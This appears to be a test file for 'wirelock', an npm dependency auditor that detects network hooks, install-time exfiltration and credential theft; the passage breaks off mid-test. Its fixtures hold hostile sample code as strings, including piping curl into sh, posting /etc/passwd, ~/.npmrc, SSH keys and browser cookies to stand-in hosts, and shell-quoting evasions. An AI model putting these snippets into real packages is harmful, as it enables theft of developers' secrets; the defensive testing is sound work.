import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { analyzeSource, type FileFacts } from '../../src/audit/code/analyze.js';
import { judgePackage, verifyIdentity } from '../../src/audit/code/judge.js';
import { analyzePackageDir } from '../../src/audit/code/package.js';
import { scanInstalledCode } from '../../src/audit/code/scan.js';
import { diffSince, oldVersionsOf } from '../../src/audit/code/diff.js';
import { listInstalled, scanPackageCode } from '../../src/audit/installed.js';
import { readLockfile } from '../../src/audit/lockfile/read.js';
import { suspiciousScript } from '../../src/audit/audit.js';
import type { LockGraph } from '../../src/audit/lockfile/model.js';

const work = mkdtempSync(join(tmpdir(), 'wirelock-code-'));
after(() => rmSync(work, { recursive: true, force: true }));

const caps = (facts: FileFacts) => [...new Set(facts.evidence.map((e) => (e.signal ? `${e.capability}/${e.signal}` : e.capability)))].sort();
const hooks = (source: string) => analyzeSource(source).hooks.map((h) => `${h.rule}:${h.line}`);

test('strings and comments are never code', () => {
  const source = [
    '// globalThis.fetch = polyfill; require("child_process").exec("curl x | sh")',
    '/* https.request = x */',
    'const message = "globalThis.fetch = fetch; https.request = r; eval(x)";',
    'const tpl = `process.env.NPM_TOKEN ${1 + 1} require("os").hostname()`;',
    'if (globalThis.fetch === undefined) throw new Error(message);',
    'const re = /https\\.request = /;',
  ].join('\n');
  const facts = analyzeSource(source);
  assert.deepEqual(facts.hooks, []);
  assert.deepEqual(caps(facts), []);
});

test('aliases, destructuring, computed constant keys, node: modules, import(), interop helpers, minified code', () => {
  assert.deepEqual(hooks('const h = require("node:https");\nconst alias = h;\nalias.request = wrap;'), ['reassign-http-request:3']);
  assert.deepEqual(hooks('const { request, get } = require("https");\nrequire("https")["req" + "uest"] = x;'), ['reassign-http-request:2']);
  assert.deepEqual(hooks('import * as t from "node:tls";\nt.default.checkServerIdentity = () => undefined;'), ['reassign-tls-connect:2']);
  assert.deepEqual(hooks('const tls_1 = __importDefault(require("tls"));\ntls_1.default.connect = c;'), ['reassign-tls-connect:2']);
  assert.deepEqual(hooks('var n=require("https"),o=n.request;n.request=function(e){return o(e)};'), ['reassign-http-request:1']);
  assert.deepEqual(hooks('globalThis["fe" + "tch"] = f;\nObject.defineProperty(window, "fetch", { value: f });\nReflect.set(self, "fetch", f);'), ['reassign-fetch:1', 'reassign-fetch:2', 'reassign-fetch:3']);
  assert.deepEqual(hooks('globalThis[Symbol.for("undici.globalDispatcher.1")] = agent;'), ['replace-undici-dispatcher:1']);
  assert.deepEqual(hooks('const s = require("shimmer");\nconst http = require("http");\ns.wrap(http, "request", w);'), ['wrap-network-function:3']);
  assert.deepEqual(hooks('require("https").globalAgent.options.ca = [pem];'), ['reassign-http-request:1']);
  assert.deepEqual(hooks('process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0";'), ['disable-tls-verification:1']);

  const child = analyzeSource('const m = "child" + "_process";\nconst { exec: run } = require(m);\nrun("curl -s https://x.example.invalid/p | sh");');
  assert.deepEqual(caps(child), ['child-process', 'network/shell-network', 'shell', 'shell/shell-pipe']);
  const esm = analyzeSource('const cp = await import("node:child_process");\ncp.spawnSync("id");', { module: true });
  assert.ok(caps(esm).includes('child-process'));
  const encoded = analyzeSource('require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).execSync("whoami");');
  assert.ok(caps(encoded).includes('obfuscation/encoded-name') && caps(encoded).includes('recon/host-recon'), caps(encoded).join());
  const fn = analyzeSource('[]["constructor"]["constructor"]("return process")().mainModule.require("child_process").exec("x");');
  assert.ok(caps(fn).includes('child-process'), 'the Function constructor reached through constructor chains');
  const args = analyzeSource('arguments[1]("child_process").execSync("uname -a");');
  assert.ok(caps(args).includes('child-process'), "CommonJS wrapper's arguments[1] is require");
  // Negative controls: another object's request, a local variable named fetch, a shadowed require.
  assert.deepEqual(hooks('const r = { request: 1 }; r.request = 2; let fetch; fetch = 3;\nfunction f(require) { require("https").request = 4; }'), []);
});

test('environment: serialised vs read vs handed to a child; secrets by name', () => {
  assert.deepEqual(caps(analyzeSource('const d = JSON.stringify(process.env);')), ['env/env-serialize']);
  assert.deepEqual(caps(analyzeSource('for (const k in process.env) send(k);')), ['env/env-serialize']);
  assert.deepEqual(caps(analyzeSource('const { NPM_TOKEN } = process.env; const e = process.env; e.GITHUB_TOKEN;')), ['env/env-secret']);
  assert.deepEqual(caps(analyzeSource('require("child_process").spawn("node", [], { env: { ...process.env, X: 1 } });')), ['child-process']);
  assert.deepEqual(caps(analyzeSource('if (process.env.NODE_ENV === "production") {}\nObject.assign(process.env, parsed);')), []);
});

test('downloaded or decoded data evaluated; constant code is analysed as code', () => {
  const downloaded = analyzeSource('const https = require("https");\nhttps.get(u, (r) => { let b = ""; r.on("data", (c) => (b += c)); r.on("end", () => eval(b)); });');
  assert.ok(caps(downloaded).includes('eval/eval-downloaded'));
  const awaited = analyzeSource('const { data } = await require("axios").get(u);\nnew Function(data)();', { module: false });
  assert.ok(caps(awaited).includes('eval/eval-downloaded'));
  const blob = analyzeSource(`const p = "${'QUJD'.repeat(200)}";\nrequire("vm").runInThisContext(Buffer.from(p, "base64").toString());`);
  assert.ok(caps(blob).includes('eval/decoded-exec'));
  const nested = analyzeSource('eval("require(\'child_process\').execSync(\'curl -d @/etc/passwd https://x.oast.fun.invalid\')")');
  assert.ok(caps(nested).includes('network/known-endpoint') && caps(nested).includes('recon/credential-read'), caps(nested).join());
  // Negative controls: a template engine, global detection, constant eval of harmless code.
  assert.deepEqual(caps(analyzeSource('module.exports = (t) => new Function("d", t);')), ['eval']);
  assert.deepEqual(caps(analyzeSource('var g = Function("return this")(); eval("1 + 1");')), []);
});

test('known out-of-band endpoints match whole labels, also when defanged; a mention is not a request', () => {
  const request = analyzeSource('fetch(`https://${id}.c1.oast.fun.invalid/x`);');
  assert.ok(caps(request).includes('network/known-endpoint'));
  assert.ok(!caps(analyzeSource('fetch("https://notwebhook.site/x");')).includes('network/known-endpoint'));
  assert.ok(!caps(analyzeSource('fetch("https://webhook.sites.example/x");')).includes('network/known-endpoint'));
  const mention = analyzeSource('const BLOCK = ["webhook.site"]; fetch(url);');
  assert.deepEqual(caps(mention), ['network', 'network/endpoint-mention']);
});

function graphWith(entries: Array<{ dir: string; name: string; version?: string; source?: 'registry' | 'file'; integrity?: string }>): LockGraph {
  return {
    format: 'npm-v3',
    importers: [],
    nodes: new Map(entries.map((e) => [e.dir, { id: e.dir, name: e.name, version: e.version ?? '1.0.0', source: e.source ?? 'registry', edges: [], location: '', ...(e.integrity ? { integrity: e.integrity } : {}) }])),
  };
}

test('identity: a package is known only at node_modules/<its name>, as the lockfile records it, from a registry', () => {
  const graph = graphWith([
    { dir: 'node_modules/next', name: 'next' },
    { dir: 'node_modules/evil/node_modules/next', name: 'next' },
    { dir: 'node_modules/local-next', name: 'next', source: 'file' },
  ]);
  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph).verified, true);
  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/node_modules/next' }, graph).verified, true, 'a real nested install');
  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/lib/next' }, graph).reason, /not at node_modules\/next/);
  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil-next' }, graph).reason, /not at node_modules\/next/);
  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/local-next' }, graph).reason, /not at node_modules\/next/);
  assert.match(verifyIdentity({ name: '@sentry/node', version: '1.0.0', dir: 'node_modules/@sentry/node' }, graph).reason, /no entry/);
  assert.match(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, undefined).reason, /no lockfile/);

  // The same fetch patch: info for next at its verified path, high for a package claiming the name.
  const dir = join(work, 'patcher');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'next', version: '1.0.0' }));
  writeFileSync(join(dir, 'index.js'), 'const orig = globalThis.fetch;\nglobalThis.fetch = (...a) => orig(...a);\n');
  const code = analyzePackageDir(dir);
  const real = judgePackage('next', code, verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph));
  const fake = judgePackage('next', code, verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/evil/lib/next' }, graph));
  assert.deepEqual(real.findings.map((f) => `${f.severity} ${f.id}`), ['info network-hook/reassign-fetch']);
  assert.deepEqual(fake.findings.map((f) => `${f.severity} ${f.id}`), ['high network-hook/reassign-fetch']);
  // Test folders and type declarations are context.
  mkdirSync(join(dir, 'test'), { recursive: true });
  writeFileSync(join(dir, 'index.js'), 'module.exports = 1;\n');
  writeFileSync(join(dir, 'test', 'setup.js'), 'globalThis.fetch = () => 1;\n');
  writeFileSync(join(dir, 'index.d.ts'), 'declare global { var fetch: any } globalThis.fetch = 1;\n');
  const context = judgePackage('other', analyzePackageDir(dir), { verified: false, reason: '' });
  assert.deepEqual(context.findings.map((f) => `${f.severity} ${f.id}`), ['info network-hook/reassign-fetch']);
});

function writePackage(root: string, name: string, version: string, files: Record<string, string>, scripts?: Record<string, string>): void {
  const dir = join(root, 'node_modules', name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, version, ...(scripts ? { scripts } : {}) }));
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(join(dir, file, '..'), { recursive: true });
    writeFileSync(join(dir, file), text);
  }
}

function writeLock(root: string, packages: Array<{ name: string; version: string; integrity: string; hasInstallScript?: boolean }>, file = 'package-lock.json'): void {
  const lock = {
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: Object.fromEntries(packages.map((p) => [p.name, p.version])) },
      ...Object.fromEntries(packages.map((p) => [`node_modules/${p.name}`, { version: p.version, resolved: `https://registry.npmjs.org/${p.name}/-/${p.name}-${p.version}.tgz`, integrity: p.integrity, ...(p.hasInstallScript ? { hasInstallScript: true } : {}) }])),
    },
  };
  writeFileSync(join(root, file), JSON.stringify(lock, null, 2));
  writeFileSync(join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: Object.fromEntries(packages.map((p) => [p.name, p.version])) }));
}

const sri = (seed: string) => `sha512-${Buffer.alloc(64, seed).toString('base64')}`;

test('cache keyed by integrity: a warm re-scan reads nothing; a changed file or integrity is read again', async () => {
  const root = join(work, 'cached');
  for (let i = 0; i < 12; i++) writePackage(root, `pkg-${i}`, '1.0.0', { 'index.js': `module.exports = require("https").get("https://x${i}.example");\n` });
  writeLock(root, Array.from({ length: 12 }, (_, i) => ({ name: `pkg-${i}`, version: '1.0.0', integrity: sri(String(i)) })));
  const graph = readLockfile(join(root, 'package-lock.json'));
  const packages = listInstalled(root);
  const cacheDir = join(work, 'code-cache');
  const cold = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 2 });
  assert.deepEqual([cold.stats.analysed, cold.stats.fromCache], [12, 0]);
  const warm = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 2 });
  assert.deepEqual([warm.stats.analysed, warm.stats.fromCache], [0, 12]);
  assert.deepEqual(warm.code.get('node_modules/pkg-3'), cold.code.get('node_modules/pkg-3'), 'the cached analysis is the analysis');
  // A file changed after install (another package's install script, say) is read again.
  writeFileSync(join(root, 'node_modules', 'pkg-3', 'index.js'), 'globalThis.fetch = () => 0; // changed after install\n');
  const changed = await scanInstalledCode(root, packages, { cacheDir, graph, workers: 1 });
  assert.deepEqual([changed.stats.analysed, changed.stats.fromCache], [1, 11]);
  assert.equal(changed.code.get('node_modules/pkg-3')!.facts['index.js']!.hooks[0]!.rule, 'reassign-fetch');
  // Same files, other tarball integrity: not the same package.
  writeLock(root, Array.from({ length: 12 }, (_, i) => ({ name: `pkg-${i}`, version: '1.0.0', integrity: sri(i === 5 ? 'other' : String(i)) })));
  const relocked = await scanInstalledCode(root, packages, { cacheDir, graph: readLockfile(join(root, 'package-lock.json')), workers: 1 });
  assert.deepEqual([relocked.stats.analysed, relocked.stats.fromCache], [1, 11]);
});

test('--since: capabilities an update added are the alert', () => {
  const current = [
    { name: 'quiet', version: '1.0.1', dir: 'node_modules/quiet', capabilities: ['install-time' as const, 'network' as const], evidence: { network: [{ file: 'node_modules/quiet/i.js', line: 2, detail: 'https.get' }] }, identity: '' },
    { name: 'same', version: '2.0.0', dir: 'node_modules/same', capabilities: ['network' as const], evidence: {}, identity: '' },
    { name: 'grown', version: '3.1.0', dir: 'node_modules/grown', capabilities: ['network' as const, 'child-process' as const], evidence: {}, identity: '' },
    { name: 'fresh', version: '1.0.0', dir: 'node_modules/fresh', capabilities: ['network' as const], evidence: {}, identity: '' },
  ];
  const old = oldVersionsOf(
    { format: 'npm-v3', importers: [], nodes: new Map([
      ['node_modules/quiet', { id: 'q', name: 'quiet', version: '1.0.0', source: 'registry', integrity: 'sha512-q', edges: [], location: '' }],
      ['node_modules/same', { id: 's', name: 'same', version: '1.9.0', source: 'registry', integrity: 'sha512-s', edges: [], location: '' }],
      ['node_modules/grown', { id: 'g', name: 'grown', version: '3.0.0', source: 'registry', integrity: 'sha512-g', edges: [], location: '' }],
    ]) },
    (integrity) => (integrity === 'sha512-s' ? ['network'] : integrity === 'sha512-g' ? ['network'] : undefined),
  );
  const findings = diffSince(current, old);
  assert.deepEqual(findings.map((f) => `${f.severity} ${f.id} ${f.name} ${f.added.join('+')}`), [
    'critical update/new-capability quiet install-time',
    'medium update/new-capability grown child-process',
    'info update/new-package fresh network',
  ]);
  assert.match(findings[0]!.summary, /quiet 1\.0\.0 -> 1\.0\.1 adds: install-time \(compared with quiet@1\.0\.0 \(not scanned before/);
});

// These run the built CLI (`npm test` builds first) as a user would.
const cli = join(process.cwd(), 'dist', 'cli', 'main.js');
// The repository's OSV vectors: a real database with no record for the packages made up here.
const EMPTY_DB = join(process.cwd(), 'test', 'vectors', 'osv');
function wirelock(cwd: string, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [cli, ...args], { cwd, env: { PATH: process.env.PATH ?? '', NO_COLOR: '1', HOME: work }, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
      resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

test('CLI --since <old lockfile>: a patch release that starts running code at install and talking to the network', async () => {
  const root = join(work, 'since');
  writePackage(root, 'left-padder', '1.0.0', { 'index.js': 'module.exports = (s) => s.padStart(4);\n' });
  writeLock(root, [{ name: 'left-padder', version: '1.0.0', integrity: sri('a') }]);
  const first = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--fail-on', 'none', '--max-db-age', '100000');
  assert.equal(first.code, 0, first.stderr);
  cpSync(join(root, 'package-lock.json'), join(root, 'old-lock.json'));
  rmSync(join(root, 'node_modules'), { recursive: true });
  writePackage(root, 'left-padder', '1.0.1', { 'index.js': 'module.exports = (s) => s.padStart(4);\n', 'setup.js': 'require("https").get("https://telemetry.example.invalid/i");\n' }, { postinstall: 'node setup.js' });
  writeLock(root, [{ name: 'left-padder', version: '1.0.1', integrity: sri('b'), hasInstallScript: true }]);
  const r = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--since', 'old-lock.json', '--fail-on', 'none', '--max-db-age', '100000');
  assert.equal(r.code, 0, r.stderr);
  const json = JSON.parse(r.stdout);
  const update = json.findings.find((f: { id: string }) => f.id === 'update/new-capability');
  assert.ok(update, JSON.stringify(json.findings.map((f: { id: string }) => f.id)));
  assert.equal(update.severity, 'critical');
  assert.deepEqual([...update.capabilities].sort(), ['install-time', 'network'], 'compared with the scanned 1.0.0, from the cache by its integrity');
  assert.ok(json.capabilities.find((p: { name: string }) => p.name === 'left-padder').capabilities.includes('install-time'));
  // The code finding itself names the file and line.
  const install = json.findings.find((f: { id: string }) => f.id === 'code/install-network');
  assert.equal(install.evidence[0].file, 'node_modules/left-padder/setup.js');
  assert.equal(install.evidence[0].line, 1);
  const bad = await wirelock(root, 'audit', '--db', EMPTY_DB, '--since', 'no-such-ref', '--max-db-age', '100000');
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--since no-such-ref: no such file, and git has no package-lock\.json at ref "no-such-ref"/);
});

test('issue 11: auditing an app that depends on wirelock never flags wirelock itself', async () => {
  const root = join(work, 'app-with-wirelock');
  const pkg = join(root, 'node_modules', 'wirelock');
  mkdirSync(pkg, { recursive: true });
  for (const entry of ['dist', 'schema', 'package.json', 'README.md']) cpSync(join(process.cwd(), entry), join(pkg, entry), { recursive: true });
  const version = JSON.parse(readFileSync(join(pkg, 'package.json'), 'utf8')).version as string;
  writeLock(root, [{ name: 'wirelock', version, integrity: sri('w') }]);
  // Positive control: the lab's attack code is in the package, and the line scanner matches it.
  const legacy = scanPackageCode(root, listInstalled(root).find((p) => p.name === 'wirelock')!);
  // (The build bundles it: dist/modules.json names the file that holds lab/runtime-attacks.js.)
  const modules = JSON.parse(readFileSync(join(pkg, 'dist', 'modules.json'), 'utf8')) as Record<string, string[]>;
  const attacks = Object.keys(modules).find((file) => modules[file]!.includes('lab/runtime-attacks.js'));
  assert.ok(attacks && legacy.some((h) => h.file.endsWith(`dist/${attacks}`)), 'the attack code is there');
  const r = await wirelock(root, 'audit', '--db', EMPTY_DB, '--json', '--fail-on', 'info', '--max-db-age', '100000', '--no-code-cache');
  const json = JSON.parse(r.stdout);
  const own = json.findings.filter((f: { package: { name: string } }) => f.package.name === 'wirelock');
  assert.deepEqual(own, [], 'the attacks are strings the lab writes to files, not code wirelock runs');
  assert.equal(r.code, 0, r.stderr);
});

test('the parser is loaded lazily: not by import "wirelock", not by importing the audit API, only when code is analysed', async () => {
  const probe = `
    import { createRequire } from 'node:module';
    const require = createRequire(import.meta.url);
    const loaded = () => Object.keys(require.cache).some((k) => k.includes('meriyah'));
    await import(${JSON.stringify(join(process.cwd(), 'dist', 'index.js'))});
    const afterCore = loaded();
    const audit = await import(${JSON.stringify(join(process.cwd(), 'dist', 'audit', 'index.js'))});
    const afterAudit = loaded();
    const { analyzeSource } = await import(${JSON.stringify(join(process.cwd(), 'dist', 'audit', 'code', 'analyze.js'))});
    analyzeSource('fetch(1)');
    console.log(JSON.stringify({ afterCore, afterAudit, afterAnalysis: loaded(), api: typeof audit.auditGraph }));`;
  const out = await new Promise<string>((resolve, reject) =>
    execFile(process.execPath, ['--input-type=module', '-e', probe], { cwd: work }, (error, stdout, stderr) => (error ? reject(new Error(stderr)) : resolve(stdout))),
  );
  assert.deepEqual(JSON.parse(out), { afterCore: false, afterAudit: false, afterAnalysis: true, api: 'function' });
});

test('independent review: ~/.npmrc next to a registry read is a registry client; the same token sent elsewhere or written to the registry is theft', () => {
  const judge = (files: Record<string, string>, scripts?: Record<string, string>) => {
    const dir = mkdtempSync(join(work, 'registry-'));
    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'tool', version: '1.0.0', ...(scripts ? { scripts } : {}) }));
    for (const [file, text] of Object.entries(files)) writeFileSync(join(dir, file), text);
    return judgePackage('tool', analyzePackageDir(dir), { verified: false, reason: '' }).findings.map((f) => `${f.severity} ${f.id}`);
  };
  const read = "const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n";
  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { headers: { authorization: rc } });\n` }), []);
  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://collector.example.invalid/' + name, { headers: { authorization: rc } });\n` }), ['critical code/credential-theft']);
  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { method: 'PUT', body: rc });\n` }), ['critical code/credential-theft']);
  // The words process.env are not a .env file; ./cookies.json is not Chromium's Cookies store.
  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst ca = fs.readFileSync(process.env.MY_CA_FILE);\nrequire('https').get('https://api.example.com', { ca });\n" }), []);
  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst jar = fs.readFileSync('./cookies.json');\nrequire('https').get('https://api.example.com');\n" }), []);
  assert.deepEqual(judge({ 'index.js': "const fs = require('fs'), os = require('os');\nconst c = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies');\nrequire('https').get('https://api.example.com');\n" }), ['critical code/credential-theft']);
  // An update check against the registry at install is info; the same request to another host stays medium.
  assert.deepEqual(judge({ 'check.js': "fetch('https://registry.npmjs.org/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['info code/install-network']);
  assert.deepEqual(judge({ 'check.js': "fetch('https://updates.example.invalid/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['medium code/install-network']);
});

test('independent review: other spellings of require load their module', () => {
  const net = (source: string) => caps(analyzeSource(source)).includes('network');
  for (const load of ["require.call(null, 'https')", "require.apply(null, ['https'])", "Reflect.apply(require, null, ['https'])", "require.main.require('https')", "module.constructor._load('https')"]) {
    assert.ok(net(`const h = ${load};\nh.get('https://c2.example.invalid/');\n`), load);
  }
});

test('independent review: shell words are matched as the shell reads them (quotes, backslashes, $IFS); base64 -d | sh pipes to a shell', () => {
  const signals = (command: string) => caps(analyzeSource(`require('child_process').execSync(${JSON.stringify(command)});`));
  for (const command of ["c''url -s https://c2.example.invalid/", 'c"u"rl https://c2.example.invalid/', 'c\\url https://c2.example.invalid/', 'curl${IFS}https://c2.example.invalid/']) {
    assert.ok(signals(command).includes('network/shell-network'), command);
    assert.ok(suspiciousScript(command), command);
  }
  assert.ok(signals("echo $(who''ami)").includes('recon/host-recon'));
  assert.ok(signals('echo ZWNobyBkZWZhbmdlZA== | base64 -d | sh').includes('shell/shell-pipe'));
  // Controls: words that only contain a tool name stay quiet.
  assert.ok(!signals('echo "curling is a sport"').includes('network/shell-network'));
  assert.equal(suspiciousScript('node-gyp rebuild'), undefined);
});

test('independent review: a bundled dependency (inBundle) never verifies a known framework, whatever its path', () => {
  const root = mkdtempSync(join(work, 'bundled-'));
  const entry = (name: string) => ({ version: '1.0.0', resolved: `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, integrity: `sha512-${Buffer.alloc(64, 1).toString('base64')}` });
  writeFileSync(join(root, 'package-lock.json'), JSON.stringify({
    name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: { 'ui-kit': '1.0.0', next: '1.0.0' } },
      'node_modules/next': entry('next'),
      'node_modules/ui-kit': { ...entry('ui-kit'), bundleDependencies: ['next'] },
      'node_modules/ui-kit/node_modules/next': { version: '1.0.0', inBundle: true },
    },
  }));
  const graph = readLockfile(join(root, 'package-lock.json'));
  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph).verified, true, 'control: the registry install');
  const bundled = verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/ui-kit/node_modules/next' }, graph);
  assert.equal(bundled.verified, false);
  assert.match(bundled.reason, /bundled/);
});

test('independent review: prepare scripts run at install for git, folder and tarball dependencies, not for registry ones', async () => {
  const scan = async (resolved: string) => {
    const root = mkdtempSync(join(work, 'prepare-'));
    const pkgDir = join(root, 'node_modules', 'gitprep');
    mkdirSync(pkgDir, { recursive: true });
    writeFileSync(join(pkgDir, 'package.json'), JSON.stringify({ name: 'gitprep', version: '1.0.0', scripts: { prepare: 'node build.js' } }));
    writeFileSync(join(pkgDir, 'build.js'), "const os = require('os');\nrequire('https').get('https://c2.example.invalid/?h=' + os.hostname());\n");
    writeFileSync(join(root, 'package-lock.json'), JSON.stringify({
      name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
      packages: { '': { name: 'app', version: '1.0.0', dependencies: { gitprep: '1.0.0' } }, 'node_modules/gitprep': { version: '1.0.0', resolved, ...(resolved.startsWith('https:') ? { integrity: `sha512-${Buffer.alloc(64, 2).toString('base64')}` } : {}) } },
    }));
    const graph = readLockfile(join(root, 'package-lock.json'));
    const { code } = await scanInstalledCode(root, listInstalled(root), { graph, workers: 1 });
    const result = code.get('node_modules/gitprep')!;
    return judgePackage('gitprep', result, verifyIdentity({ name: 'gitprep', version: '1.0.0', dir: 'node_modules/gitprep' }, graph)).findings.map((f) => `${f.severity} ${f.id}`);
  };
  assert.deepEqual(await scan('git+ssh://git@github.com/someone/gitprep.git#0123456789abcdef0123456789abcdef01234567'), ['critical code/install-exfiltration']);
  assert.deepEqual(await scan('https://registry.npmjs.org/gitprep/-/gitprep-1.0.0.tgz'), [], 'control: npm never runs prepare for a registry tarball');
});

test('independent review: a drop-in http/https from any module (follow-redirects) makes requests', () => {
  assert.ok(caps(analyzeSource("const { https } = require('follow-redirects');\nhttps.request({ host: 'c2.example.invalid' }).end();\n")).includes('network'));
  assert.ok(caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.get('http://c2.example.invalid/');\n")).includes('network'));
  assert.ok(!caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.status(200);\n")).includes('network'));
});

test('independent review: spawn(process.execPath, ["-e", code]) analyses code as code', () => {
  const source = "const code = \"require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())\";\nrequire('child_process').spawn(process.execPath, ['-e', code]);\n";
  const found = caps(analyzeSource(source));
  assert.ok(found.includes('network') && found.includes('recon/host-recon'), found.join(' '));
  assert.ok(!caps(analyzeSource("require('child_process').spawn(process.execPath, ['-e', 'console.log(1)']);\n")).includes('network'));
});

test('independent review 2: require and modules followed through objects, arrays, closures and functions returning constants', () => {
  const net = (source: string) => caps(analyzeSource(source)).includes('network');
  // axios is not one of the built-ins a call's lone argument loads by name: these go through the alias tracking.
  for (const source of [
    "const o = { r: require };\no.r('axios').post('https://c2.example.invalid/');",
    "const o = { deep: { r: require } };\no.deep.r('axios').post('https://c2.example.invalid/');",
    "const a = [require];\na[0]('ax' + 'ios').post('https://c2.example.invalid/');",
    "const l = {};\nl.load = require;\nl.load('axios').post('https://c2.example.invalid/');",
    "function loader() { return require; }\nloader()('axios').post('https://c2.example.invalid/');",
    "const name = (() => 'ax' + 'ios')();\nrequire(name).post('https://c2.example.invalid/');",
    "function pick() { return process.getBuiltinModule; }\nconst h = process.getBuiltinModule('https');\nh.get('https://c2.example.invalid/');",
  ]) assert.ok(net(source), source);
  // Any call whose one argument names a network or process built-in loads it (require handed to a callback).
  assert.ok(net("function run(load) { load('https').get('https://c2.example.invalid/'); }\nrun(require);"));
  // Controls: a loader returning different modules, an object of plain values.
  assert.ok(!net("function pick(x) { if (x) return require('axios'); return require('path'); }\npick(1).post('/');"));
  assert.ok(!net("const o = { r: (x) => x };\no.r('axios').post('/');"));
});

test('independent review 2: Function reached through any function\'s constructor, prototype chains and Reflect.construct', () => {
  const evals = (source: string) => caps(analyzeSource(source)).filter((c) => c.startsWith('eval'));
  for (const source of [
    "const AF = Object.getPrototypeOf(async function () {}).constructor;\nAF(code)();",
    "const G = Reflect.getPrototypeOf(function* () {}).constructor;\nG(code);",
    "function f() {}\nf.constructor(code)();",
    "setTimeout.constructor(code)();",
    "require('fs').readFileSync.constructor(code)();",
    "Reflect.construct(Function, [code])();",
    "(() => {}).__proto__.constructor(code)();",
  ]) assert.deepEqual(evals(source), ['eval'], source);
  // Controls: the constructor of an instance is its class, not Function.
  assert.deepEqual(evals('class A {}\nconst a = new A();\nnew a.constructor(code);\nnew this.constructor(code);'), []);
});

test('independent review 2: values read from credential stores tracked into requests; a .env token in headers is configuration', () => {
  const sig = (source: string) => caps(analyzeSource(source));
  const far = Array.from({ length: 80 }, (_, i) => `function pad${i}() { return ${i}; }`).join('\n');
  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n${far}\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`).includes('recon/secret-flow'));
  assert.ok(sig(`const fs = require('fs');\nfs.readFile('.env', 'utf8', (err, data) => { fetch('https://x.example.invalid/', { method: 'POST', body: data }); });`).includes('recon/secret-flow'));
  assert.ok(sig(`const k = require('fs').readFileSync('/home/u/.npmrc', 'utf8');\nconst r = require('https').request({ hostname: 'x.example.invalid' });\nr['wr' + 'ite'](k);`).includes('recon/secret-flow'));
  assert.ok(sig(`const fs = require('fs');\nfunction env() { return fs.readFileSync('.env', 'utf8'); }\nconst s = require('net').connect(9, 'x.example.invalid');\ns.write(env());`).includes('recon/secret-flow'));
  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst result = {};\nresult.key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n${far}\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(result) });`).includes('recon/secret-flow'));
  // Controls: the .env's token in the Authorization header; a .env read next to a request that carries none of it.
  const deploy = sig(`const fs = require('fs');\nconst tok = fs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', headers: { authorization: tok } });`);
  assert.ok(deploy.includes('recon/dotenv-read') && !deploy.includes('recon/secret-flow'));
  assert.ok(!sig(`const fs = require('fs');\nfs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', body: '{}' });`).includes('recon/secret-flow'));
});

test('independent review 2: downloads returned by a helper (Promise resolve, async return) reach eval', () => {
  const sig = (source: string) => caps(analyzeSource(source));
